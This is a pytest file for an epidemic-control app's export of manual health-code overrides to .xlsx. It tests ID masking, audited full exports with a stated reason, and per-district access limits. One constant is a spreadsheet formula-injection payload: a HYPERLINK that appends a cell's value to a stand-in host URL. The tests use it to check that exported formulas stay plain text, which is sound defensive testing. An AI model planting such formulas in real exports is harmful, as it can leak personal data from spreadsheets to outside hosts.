"""The manual-code (override) history exported to .xlsx (issue 17): masked by default, full numbers by POST
with a reason (audited as a full read), a reason typed like a formula kept as text, only the jurisdiction's
persons. Both databases."""

from __future__ import annotations

import json
from datetime import timedelta
from typing import Any

import pytest
from fastapi import FastAPI
from sqlalchemy import select

from fangkong.codes import service as codes
from fangkong.core import clock
from fangkong.core.db import transaction
from fangkong.core.models import AuditEntry
from fangkong.registry import idnumber
from fangkong.registry import service as registry
from fangkong.web.app import create_app
from tests.helpers import csrf_of, demo_cast, login, page_shows, xlsx_rows

FORMULA = '=HYPERLINK("http://example.invalid/?x="&A4,"点此核对")'


@pytest.fixture(scope="module")
def overrides(city_url: str) -> dict[str, Any]:
    """Two requests by the epidemiologist: one for a person of the district account's district (its reason
    written like a spreadsheet formula), one for a person elsewhere; the commander approves the first."""
    with transaction(city_url) as db:
        who = demo_cast(db)
        epi, commander, district = who["epidemiologist"], who["commander"], who["district"]
        inside = registry.households_of(db, district, district.jurisdiction_id, limit=1)[1][0].members[0].id  # type: ignore[arg-type]
        street = who["street"]  # 杨家峪街道, in another district
        outside = registry.households_of(db, street, street.jurisdiction_id, limit=1)[1][0].members[0].id  # type: ignore[arg-type]
        assert not district.covers(registry.resident_location(db, commander, outside, purpose="test"))
        expires = clock.now() + timedelta(days=3)
        first = codes.request_override(db, epi, person_id=inside, colour="yellow", reason=FORMULA, expires_at=expires)
        codes.request_override(db, epi, person_id=outside, colour="red", reason="密接待转运", expires_at=expires)
        codes.approve_override(db, commander, first.id, note="同意")
        number = registry.get_person(db, commander, inside, full=True, reason="测试准备").id_number
        return {"inside": inside, "outside": outside, "number": number, "first": first.id}


@pytest.fixture(scope="module")
def app(city_url: str, overrides: dict[str, Any]) -> FastAPI:
    return create_app(city_url)


def test_the_override_history_exports_masked_with_the_formula_kept_as_text(app: FastAPI,
                                                                           overrides: dict[str, Any]) -> None:
    client = login(app, "commander")
    page = client.get("/codes/overrides?state=all")
    page_shows(page, testids=("export-xlsx", "export-full-form"))
    rows = xlsx_rows(client.get("/codes/overrides/export.xlsx?state=all"))
    body = {row[0]: row for row in rows[3:]}
    first = body[overrides["first"]]
    assert first[2] == idnumber.mask_id_number(overrides["number"]) and first[3] == "黄码"
    assert first[4] == "'" + FORMULA  # shown as text, never evaluated
    assert first[8] == "已生效" and str(first[9]).startswith("commander")
    assert overrides["number"] not in json.dumps(rows, default=str, ensure_ascii=False)
    assert len(body) >= 2


def test_a_district_sees_only_its_persons_and_a_full_export_is_audited_with_its_reason(
        app: FastAPI, overrides: dict[str, Any], city_url: str) -> None:
    district = login(app, "district")
    rows = xlsx_rows(district.get("/codes/overrides/export.xlsx?state=all"))
    ids = {row[0] for row in rows[3:]}
    assert overrides["first"] in ids and len(ids) == 1
    csrf = csrf_of(district, "/codes/overrides?state=all")
    full = xlsx_rows(district.post("/codes/overrides/export.xlsx?state=all",
                                   data={"csrf_token": csrf, "full": "1", "reason": "核对人工赋码"}))
    assert full[3][2] == overrides["number"]
    with transaction(city_url) as db:
        entry = db.scalars(select(AuditEntry).where(AuditEntry.subject_type == "export")
                           .order_by(AuditEntry.id.desc()).limit(1)).one()
    assert entry.action == "read_full" and entry.username == "district" and entry.reason == "核对人工赋码"
    assert json.loads(entry.detail)["persons"] == str(overrides["inside"])
    assert login(app, "grid").get("/codes/overrides/export.xlsx").status_code == 403
